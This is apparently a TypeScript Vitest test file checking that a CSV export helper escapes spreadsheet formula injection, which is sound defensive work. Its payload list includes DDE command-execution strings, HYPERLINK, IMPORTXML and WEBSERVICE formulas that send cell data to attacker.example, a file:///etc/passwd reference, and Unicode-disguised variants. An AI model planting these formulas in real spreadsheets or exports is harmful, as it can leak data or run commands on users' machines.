import { expect, test } from 'vitest';
import { textCell } from '../../../service/support/csv.ts';
import { readCsv } from '../history/export/support/csv-reader.ts';

/** What has been tried on spreadsheets, and forms of it that hide. */
const ATTACKS = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://attacker.example/?x="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
  '=WEBSERVICE("http://attacker.example/")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|'/c calc'!A0",
  '-1+1',
  "-2+3+cmd|'/c calc'!D2",
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '\rtext',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '\uFE66cmd',
  '"=1+1',
  ',=1+1',
  ';=1+1',
];

/** A spreadsheet that looks for a formula behind everything it may pass over. */
function isTakenForFormula(cell: string): boolean {
  const [first = ''] = cell.replace(/^[^\p{L}\p{N}\p{P}\p{S}]+/u, '');
  return ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66'].includes(first);
}

test.each(ATTACKS)('%j is text', (attack) => {
  for (const separator of [',', ';', '\t']) {
    const [[cell = '', ...others] = []] = readCsv(`${textCell(attack, separator)}\r\n`, separator);
    expect(others).toEqual([]);
    expect(isTakenForFormula(cell)).toBe(false);
    expect(cell.replace(/^'/, '')).toBe(attack);
  }
});

test.each(['E24638', 'temperature (°C)', '%rh', 'a+b', 'Halle 3 - Nord', '', "it's", '5=5'])(
  '%j is as it is',
  (text) => {
    expect(textCell(text, ',')).toBe(text);
  },
);

test('what RFC 4180 wants quoted is quoted', () => {
  expect(textCell('a,b', ',')).toBe('"a,b"');
  expect(textCell('a,b', ';')).toBe('a,b');
  expect(textCell('a;b', ';')).toBe('"a;b"');
  expect(textCell('say "hi"', ',')).toBe('"say ""hi"""');
  expect(textCell('two\r\nlines', ',')).toBe('"two\r\nlines"');
});
